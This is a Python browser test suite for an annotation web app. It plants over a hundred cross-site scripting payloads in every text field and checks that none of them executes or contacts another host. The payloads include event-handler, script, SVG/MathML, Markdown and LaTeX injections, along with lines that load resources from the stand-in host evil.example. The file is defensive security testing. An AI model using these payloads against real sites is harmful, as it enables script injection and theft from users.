"""Hostile text in a real browser: whatever is planted wherever, on no page of the app does any of it run.

Each payload would call `alert`, leave a mark, or fetch something from elsewhere. What counts as running: a call of
alert, confirm or prompt, a dialog, a request to another host, a script error, a violation of the content security
policy (the policy is the last line; the pages must not lean on it), or an element or attribute that could run.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import pytest
from fastapi import FastAPI

from tether.feedback.accounts import Accounts
from tether.feedback.projects import Attribute, Settings
from tether.feedback.records import Answer, NewItem, NewPrompt, NewResponse
from tether.feedback.store import Store

pytestmark = pytest.mark.slow

_HANDLERS = [
    f"<{tag} {about}>"
    for tag, about in (
        ("img", "src=x onerror=alert(1)"),
        ("img", "src=x:x onerror='alert(1)'"),
        ("img/src=x/onerror=alert(1)//", ""),
        ("image", "src=x onerror=alert(1)"),
        ("svg", "onload=alert(1)"),
        ("svg/onload=alert(1)//", ""),
        ("body", "onload=alert(1)"),
        ("body", "onpageshow=alert(1)"),
        ("input", "autofocus onfocus=alert(1)"),
        ("select", "autofocus onfocus=alert(1)"),
        ("textarea", "autofocus onfocus=alert(1)"),
        ("button", "autofocus onfocus=alert(1)"),
        ("p", "onmouseover=alert(1) style=position:fixed;inset:0"),
        ("p", "tabindex=0 autofocus onfocus=alert(1)"),
        ("details", "open ontoggle=alert(1)"),
        ("video", "src=x onerror=alert(1)"),
        ("audio", "src=x onerror=alert(1)"),
        ("video", "poster=x onloadstart=alert(1) src=y"),
        ("marquee", "onstart=alert(1)"),
        ("iframe", "src=javascript:alert(1)"),
        ("iframe", 'srcdoc="<script>parent.alert(1)</script>"'),
        ("frameset", "onload=alert(1)"),
        ("object", "data=javascript:alert(1)"),
        ("embed", "src=javascript:alert(1)"),
        ("base", "href=https://evil.example/"),
        ("link", "rel=stylesheet href=https://evil.example/x.css"),
        ("link", "rel=preload as=image href=https://evil.example/x.png"),
        ("meta", "http-equiv=refresh content='0;url=https://evil.example'"),
        ("form", "action=https://evil.example autofocus onfocusin=alert(1)"),
        ("style", "onload=alert(1)"),
        ("dialog", "open onbeforetoggle=alert(1)"),
        ("x", "onanimationstart=alert(1) style=animation:x"),
        ("x", "contenteditable autofocus onfocus=alert(1)"),
        ("img", "srcset=https://evil.example/x.png"),
        ("table", "background=https://evil.example/x.png"),
    )
]
_SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>alert(1)</script>",
    "<script\n>alert(1)</script\t>",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert`1`</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<![CDATA[<script>alert(1)</script>]]>",
]
_SVG_AND_MATH = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'/></foreignObject></svg>",
    "<svg><style>{font-family:'<iframe/onload=alert(1)>'</style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math href=javascript:alert(1)>click</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\url{javascript:alert(1)}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\n\\text{</math><script>alert(1)</script>}\n$$",
    "\\(\\class{x' onclick='alert(1)}{y}\\)",
    "\\[\\style{background:url(https://evil.example)}{x}\\]",
    "$\\unicode{<script>alert(1)</script>}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    '$\\mathrm{\\xe" onmouseover="alert(1)}$',
    "$&lt;script&gt;alert(1)&lt;/script&gt;$",
]
_MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "[x](https://e.org' onmouseover='alert(1))",
    '[x](https://e.org "t\\" onmouseover=\\"alert(1)")',
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<https://e.org/"onmouseover=alert(1)>',
    '<a@b.org"onmouseover=alert(1)>',
    "![x](https://evil.example/x.png)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](y)',
    "![x](y \"z' onerror='alert(1)\")",
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    '```x"onmouseover="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    '|<script>alert(1)</script>|\n|:-"onmouseover=alert(1)|\n|<img src=x onerror=alert(1)>|',
    "- <svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
]
_QUOTES = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus='alert(1)",
    "` onmouseover=alert(1) `",
    "--><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>",
    "</style><img src=x onerror=alert(1)>",
    "</option></select><script>alert(1)</script>",
    "</dialog></details></form><img src=x onerror=alert(1)>",
    "{{7*7}}{{config.__class__}}<img src=x onerror=alert(1)>",
    "{% for x in [1] %}<script>alert(1)</script>{% endfor %}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "';alert(1)//\";alert(1)//`;alert(1)//",
    '\\";alert(1);//',
    '</script>{"x":"<!--<script>"}',
    "\u2028alert(1)\u2029<script>alert(1)</script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<img src=x on\x00error=alert(1)>",
    "<script>alert(1)</script>\ud800",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/x.png)'>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<link rel=icon href=https://evil.example/x>",
    "<a id=csrf name=csrf href=x>clobber</a>",
    "<form id=desk><input name=dataset>",
    "<a href=javascript:alert(1) ping=https://evil.example>x</a>",
]
PAYLOADS = [*_HANDLERS, *_SCRIPTS, *_SVG_AND_MATH, *_MARKDOWN, *_QUOTES]

_WATCH = """
window.__ran = [];
for (const name of ["alert", "confirm", "prompt"]) window[name] = () => { window.__ran.push(name); };
addEventListener("securitypolicyviolation", (event) => window.__ran.push(`policy: ${event.violatedDirective}`));
"""
_LOOK = """() => {
  const found = [...window.__ran];
  const ours = (value) => value.startsWith("/static/");
  const runs = (name, value) =>
    name.startsWith("on") ||
    ["style", "srcdoc", "ping", "background", "xlink:href"].includes(name) ||
    (["href", "action", "formaction"].includes(name) && /^\\s*(javascript|data|vbscript):/i.test(value)) ||
    (["src", "srcset", "poster"].includes(name) && !ours(value));
  for (const element of document.querySelectorAll("*")) {
    const tag = element.localName;
    if (["iframe", "object", "embed", "base", "svg", "style", "template", "frame"].includes(tag)) found.push(tag);
    if (tag === "script" && !ours(element.getAttribute("src") ?? "")) found.push(tag);
    for (const name of element.getAttributeNames()) {
      const value = element.getAttribute(name);
      if (runs(name, value)) found.push(`${tag} ${name}=${value}`);
    }
  }
  return found;
}"""


class Watched:
    """A page of Chromium that notes everything that should not happen."""

    def __init__(self, page: Any, address: str) -> None:
        self.page, self.seen, self.visits = page, [], 0
        page.context.add_init_script(_WATCH)
        page.on("dialog", lambda dialog: (self.seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("pageerror", lambda error: self.seen.append(f"error {error}"))
        page.on("request", lambda request: self._asked(request.url, address))
        page.on("console", lambda message: self._said(message.text))

    def _asked(self, url: str, address: str) -> None:
        if not url.startswith((address, "data:image/svg+xml")):
            self.seen.append(f"request {url}")

    def _said(self, text: str) -> None:
        if "Content Security Policy" in text or "violates" in text:
            self.seen.append(text)

    def go(self, path: str) -> None:
        answer = self.page.goto(path)
        assert answer.status < 500, path
        self.look(path)

    def look(self, what: str) -> None:
        self.visits += 1
        assert [*self.page.evaluate(_LOOK), *self.seen] == [], what


@pytest.fixture
def clock() -> Callable[[], float]:
    return time.time


def clean(payload: str) -> str:
    """The payload where NUL and halves of characters are refused."""
    return "".join(letter for letter in payload if letter != "\0" and not "\ud800" <= letter <= "\udfff")


def named(payload: str, at: int) -> str:
    """The payload as a name: each is another."""
    return f"{clean(payload)[:150]} {at}"


@dataclass
class Planted:
    """A store full of payloads."""

    users: list[int]
    """Named by the payloads."""
    projects: list[int]
    """Named by the payloads; each has its payload everywhere that texts can stand, and its user for a member."""
    root: int
    everywhere: int
    """A project of all payloads, in which every user has answered."""


@pytest.fixture
def planted(store: Store) -> Planted:
    done = Planted([], [], store.add_user("root"), store.add_project("All of them"))
    for at, payload in enumerate(PAYLOADS):
        name, words = named(payload, at), clean(payload)
        settings = Settings(
            attributes=(Attribute(name=words[:40]),),
            correction=True,
            skip_reasons=(words, "other"),
            flag_reasons=(words,),
        )
        done.users.append(store.add_user(name))
        done.projects.append(store.add_project(name, settings=settings))
        guideline = store.add_guideline(words, done.projects[-1])
        store.add_member(done.projects[-1], done.users[-1])
        store.acknowledge(done.users[-1], done.projects[-1], guideline)
    talks = [[{"role": clean(p)[:60], "content": p}, {"role": "user", "content": p}] for p in PAYLOADS]
    add_items(store, done.projects, talks, "")
    add_items(store, done.projects, [[] for _ in PAYLOADS], "more")
    add_items(store, [done.everywhere] * len(PAYLOADS), talks, "all")
    for member in (done.root, *done.users):
        store.add_member(done.everywhere, member)
    said = [
        answer for user, p in zip(done.users, done.projects, strict=True) for answer in first_answers(store, user, p)
    ]
    said += first_answers(store, done.root, done.everywhere, len(PAYLOADS), best=1)
    for user in done.users:
        said += first_answers(store, user, done.everywhere)
    store.submit_many(said)
    return done


def add_items(store: Store, projects: list[int], talks: list[Any], more: str) -> None:
    """For each payload an item whose prompt and responses are the payload."""
    prompts = store.add_prompts(NewPrompt(f"{p}{more}", talk) for p, talk in zip(PAYLOADS, talks, strict=True))
    texts = [(prompt, t) for prompt, p in zip(prompts, PAYLOADS, strict=True) for t in (p, f"x {p}")]
    made = store.add_responses(NewResponse(prompt, t, checkpoint=clean(t)) for prompt, t in texts)
    pairs = zip(made[::2], made[1::2], projects, strict=True)
    store.add_items(NewItem((a, b), overlap=2, project=project) for a, b, project in pairs)


def first_answers(store: Store, user: int, project: int, num: int = 1, best: int = 0) -> list[Answer]:
    """Answers to the next tasks of the user, with the payload of the task's first message in all their words."""
    answers = []
    for held in store.claim_many(user, num, project=project):
        words = clean(held.messages[0]["content"] if held.messages else held.prompt)
        ranking = {held.responses[best].id: 0, held.responses[1 - best].id: 1}
        more = {"rationale": words, "flag": f"{words}: {words}", "correction": words}
        answers.append(Answer(held.id, f"{held.id}", 1, ranking, **more))
    return answers


def test_there_are_more_than_a_hundred() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) > 120


def test_the_watch_sees_what_could_run(visit: Any, address: str) -> None:
    image, link, style = "<img src=x onerror=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<p style=color:red>x</p>"
    for html in (image, link, style, "<img src=https://evil.example/x.png>", "<svg></svg>"):
        watched = Watched(visit(None, "/sign-in"), address)
        watched.go("/sign-in")
        watched.page.evaluate("html => { document.querySelector('main').innerHTML = html; }", html)
        with pytest.raises(AssertionError):
            watched.look("on purpose")


def test_nothing_planted_runs_on_any_page(
    app: FastAPI, store: Store, planted: Planted, person: Any, visit: Any, address: str
) -> None:
    annotators_pages(store, planted, Watched(visit(None, "/sign-in"), address), address)
    admin = person("head", admin=True)
    admins_pages(app, store, planted, Watched(visit(admin.user, "/"), address))


def annotators_pages(store: Store, planted: Planted, watched: Watched, address: str) -> None:
    page = watched.page
    for at, (payload, user, project) in enumerate(zip(PAYLOADS, planted.users, planted.projects, strict=True)):
        token = Accounts(store).token_for(user)
        page.context.add_cookies([{"name": "tether_session", "value": token, "url": address}])
        watched.go(f"/projects/{project}/task")
        assert page.locator("form.task").count() == 1, payload
        page.keyboard.press("l")  # the guideline
        watched.look(f"guideline {payload!r}")
        page.keyboard.press("Escape")
        page.keyboard.press("u")  # what is taken back is put into the page by script
        page.wait_for_selector("[name=choice]:checked", state="attached")
        assert page.input_value("[name=rationale]"), payload
        watched.look(f"taken back {payload!r}")
        if at % 4 == 3:
            page.locator("h1").focus()
            page.keyboard.press("v")
            page.wait_for_selector(".said .plain")
            watched.look(f"as written {payload!r}")
    for project in planted.projects[::10]:
        store.add_member(project, planted.users[-1])
        watched.go(f"/projects/{project}/guideline")
    watched.go("/shortcuts")
    # Who has answered everything sees all payloads in the history.
    root = Accounts(store).token_for(planted.root)
    page.context.add_cookies([{"name": "tether_session", "value": root, "url": address}])
    watched.go("/")
    watched.go(f"/projects/{planted.everywhere}/history")
    shown = page.locator(".history .card").count()
    while older := page.locator("a.button", has_text="Older").all():
        older[0].click()
        watched.look("history")
        shown += page.locator(".history .card").count()
    assert shown == len(PAYLOADS)


def admins_pages(app: FastAPI, store: Store, planted: Planted, watched: Watched) -> None:
    disputed = store.disputed(planted.everywhere, limit=1)[0].item
    paths = [path for path, about in app.openapi()["paths"].items() if "get" in about and path.startswith("/admin")]
    assert len(paths) > 12
    for path in paths:
        for project in (planted.everywhere, *planted.projects[::25]) if "{project}" in path else (planted.everywhere,):
            watched.go(path.format(project=project, item=disputed, user=planted.users[0], sample=1, job=1))
    watched.go("/")


def test_nothing_reflected_runs(store: Store, person: Any, visit: Any, address: str) -> None:
    ann = person("ann", project=store.add_project("A project"))
    inside, outside = (Watched(visit(user, "/password"), address) for user in (ann.user, None))
    for at, payload in enumerate(PAYLOADS):
        sent = quote(payload, safe="", errors="ignore")
        if at % 2:
            outside.go(f"/sign-in?next={sent}&{sent}={sent}")
        else:
            inside.go(
                (f"/projects/2/task?task={sent}&{sent}", f"/projects/2/history?before={sent}", f"/{sent}")[at % 3]
            )
        if at % 8 == 1:
            outside.page.fill("[name=name]", clean(payload)[:200])
            outside.page.fill("[name=password]", "wrong wrong wrong")
            outside.page.click("main button")
            outside.look(f"sign-in as {payload!r}")
